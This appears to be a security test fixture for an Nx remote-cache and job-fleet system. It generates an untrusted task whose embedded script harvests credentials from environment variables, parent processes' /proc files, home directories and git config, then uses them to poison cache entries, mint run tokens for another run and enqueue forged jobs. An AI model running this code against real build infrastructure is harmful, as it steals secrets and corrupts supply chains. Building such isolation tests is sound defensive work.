/**
 * tools/attack.js: an untrusted task that tries every credential it can read. Sources: its own
 * environment; `/proc/<pid>/environ` and `cmdline` of each ancestor up to the `fleet agent`
 * process; every file (depth 4, node_modules and git objects left out) under its HOME, its
 * checkout, each ancestor's HOME and cwd, and the folders named by `--workdir` and
 * `--public-key-file` in the agent's argv; `git config --list`. From all of it it takes
 * token-like strings, PEM blocks and Redis URLs, and then:
 * - PUTs to the cache server with each (Nx API and Turborepo API), to the hashes the test named
 *   (one read by trusted readers, one by another untrusted run);
 * - asks the server to mint a run token with each, for the other run's identity, and PUTs with
 *   every token it got;
 * - enqueues jobs into the trusted level's queue through each Redis URL: unsigned, signed with
 *   every PEM private key it found, and with each credential as an HMAC secret (round one's scheme).
 * It prints `ATTACK-REPORT {json}` with what it tried and what was accepted.
 */
const ATTACK_JS = `const fs = require('fs'), path = require('path'), cp = require('child_process'), crypto = require('crypto');
const pool = process.argv[2];
const targets = JSON.parse(fs.readFileSync('libs/attack-' + pool + '/targets.json', 'utf8'));
const report = { pool, uid: process.getuid(), sources: 0, sourcesRead: 0, filesTried: 0, filesRead: 0, credentials: 0, pems: 0, redisUrls: 0, puts: 0, mints: 0, minted: 0, jobs: 0, accepted: [], readable: [] };
const texts = [];
const add = (where, text) => { report.sources++; if (text) { report.sourcesRead++; texts.push({ where, text }); } };
const tryRead = (f) => { try { return fs.readFileSync(f, 'utf8'); } catch { return undefined; } };
add('env', Object.entries(process.env).map(([k, v]) => k + '=' + v).join('\\n'));
const dirs = new Set([process.env.HOME, process.cwd()]);
for (let pid = process.ppid; pid > 1; ) {
  const environ = tryRead('/proc/' + pid + '/environ');
  const cmdline = tryRead('/proc/' + pid + '/cmdline') || '';
  add('/proc/' + pid + '/environ', environ && environ.split('\\0').join('\\n'));
  add('/proc/' + pid + '/cmdline', cmdline.split('\\0').join(' '));
  if (environ) report.readable.push('/proc/' + pid + '/environ');
  const home = environ && /(?:^|\\0)HOME=([^\\0]*)/.exec(environ);
  if (home) dirs.add(home[1]);
  try { dirs.add(fs.readlinkSync('/proc/' + pid + '/cwd')); } catch {}
  const argv = cmdline.split('\\0');
  for (const flag of ['--workdir', '--public-key-file']) { const i = argv.indexOf(flag); if (i >= 0) dirs.add(flag === '--workdir' ? argv[i + 1] : path.dirname(argv[i + 1])); }
  if (argv.includes('agent')) break;
  const status = tryRead('/proc/' + pid + '/status') || '';
  pid = Number((/PPid:\\s+(\\d+)/.exec(status) || [])[1] || 0);
}
const walk = (dir, depth) => {
  let entries; try { entries = fs.readdirSync(dir, { withFileTypes: true }); } catch { report.filesTried++; return; }
  for (const e of entries) {
    const f = path.join(dir, e.name);
    if (e.isDirectory()) { if (depth < 4 && e.name !== 'node_modules' && e.name !== 'objects') walk(f, depth + 1); continue; }
    if (!e.isFile()) continue;
    report.filesTried++;
    let st; try { st = fs.statSync(f); } catch { continue; }
    if (st.size > 1 << 20) continue;
    const t = tryRead(f);
    if (t !== undefined) { report.filesRead++; texts.push({ where: f, text: t }); }
  }
};
for (const d of dirs) if (d) walk(d, 0);
const gc = cp.spawnSync('git', ['config', '--list', '--show-origin'], { encoding: 'utf8' });
add('git config', gc.stdout);
const creds = new Map(), pems = new Set(), redisUrls = new Set();
for (const { where, text } of texts) {
  for (const m of text.matchAll(/-----BEGIN [A-Z ]+-----[\\s\\S]+?-----END [A-Z ]+-----/g)) pems.add(m[0]);
  for (const m of text.matchAll(/rediss?:\\/\\/[^\\s\\0"'\\\\]+/g)) redisUrls.add(m[0]);
  for (const m of text.matchAll(/[A-Za-z0-9_\\-]{16,}(?:\\.[A-Za-z0-9_\\-]{16,})?/g)) if (!creds.has(m[0])) creds.set(m[0], where);
}
Object.assign(report, { credentials: creds.size, pems: pems.size, redisUrls: redisUrls.size });
const cache = process.env.NX_SELF_HOSTED_REMOTE_CACHE_SERVER;
const put = async (route, hash, token, via) => {
  report.puts++;
  const url = cache + (route === 'nx' ? '/v1/cache/' : '/v8/artifacts/') + hash;
  const body = Buffer.from('POISON ' + pool + ' ' + hash + ' via ' + via);
  const res = await fetch(url, { method: 'PUT', headers: { authorization: 'Bearer ' + token, 'content-type': 'application/octet-stream' }, body }).catch(() => undefined);
  if (res && (res.status === 200 || res.status === 202)) report.accepted.push({ route, hash, via, status: res.status });
};
const hashes = [targets.mainHash, targets.victimHash];
const tokens = [...creds.entries()].map(([t, where]) => ({ t, via: where }));
for (const { t, via } of tokens) {
  for (const h of hashes) for (const route of ['nx', 'turbo']) await put(route, h, t, via);
  report.mints++;
  const res = await fetch(cache + '/v1/fleet/run-tokens', { method: 'POST', headers: { authorization: 'Bearer ' + t, 'content-type': 'application/json' }, body: JSON.stringify(targets.victim) }).catch(() => undefined);
  if (res && res.status === 200) {
    report.minted++;
    const minted = (await res.json()).token;
    for (const h of hashes) for (const route of ['nx', 'turbo']) await put(route, h, minted, 'minted with ' + via);
  }
}
const { JobQueues, signJob, canonicalRequirement } = require(path.join(path.dirname(require.resolve('nx-fleet/package.json')), 'dist/runner'));
for (const url of redisUrls) {
  for (const trust of ['trusted', 'untrusted']) {
    const queues = new JobQueues({ redisUrl: url, trust });
    let attempt = 1;
    const payload = () => ({ v: 2, trust, runId: targets.jobRunId, taskId: 'p0:build', commit: targets.commit, project: 'p0', target: 'build', requirement: canonicalRequirement(), attempt: attempt++ });
    const jobs = [{ payload: payload(), signature: '' }];
    for (const pem of pems) { try { jobs.push(signJob(payload(), crypto.createPrivateKey(pem))); } catch {} }
    for (const { t } of tokens.slice(0, 50)) { const p = payload(); jobs.push({ payload: p, signature: crypto.createHmac('sha256', t).update(JSON.stringify(p)).digest('hex') }); }
    for (const j of jobs) { await queues.enqueue(j).then(() => report.jobs++, () => undefined); }
    await queues.close();
  }
}
console.log('ATTACK-REPORT ' + JSON.stringify(report));
fs.mkdirSync('libs/attack-' + pool + '/out', { recursive: true });
fs.writeFileSync('libs/attack-' + pool + '/out/report.json', JSON.stringify(report));
`;

export interface AttackTargets {
  mainHash: string;
  victimHash: string;
  victim: { runId: string; commit: string };
  jobRunId: string;
  commit: string;
}

export interface AttackReport {
  pool: string;
  uid: number;
  sources: number;
  sourcesRead: number;
  filesTried: number;
  filesRead: number;
  credentials: number;
  pems: number;
  redisUrls: number;
  puts: number;
  mints: number;
  minted: number;
  jobs: number;
  accepted: Array<{ route: string; hash: string; via: string; status: number }>;
  readable: string[];
}

/** Per pool, a project `attack-<pool>` whose `attack` target only that pool's agent runs. */
export function attackFiles(targets: Record<string, AttackTargets>): Record<string, string> {
  const files: Record<string, string> = { 'tools/attack.js': `(async () => {\n${ATTACK_JS}\n})();\n` };
  for (const [pool, t] of Object.entries(targets)) {
    files[`libs/attack-${pool}/targets.json`] = JSON.stringify(t);
    files[`libs/attack-${pool}/project.json`] = JSON.stringify({
      name: `attack-${pool}`,
      root: `libs/attack-${pool}`,
      targets: {
        attack: {
          executor: 'nx:run-commands',
          cache: true,
          inputs: ['{projectRoot}/**/*'],
          outputs: ['{projectRoot}/out'],
          options: { command: `node tools/attack.js ${pool}` },
          metadata: { fleet: { requires: { labels: [`pool-${pool}`] } } },
        },
      },
    });
  }
  return files;
}
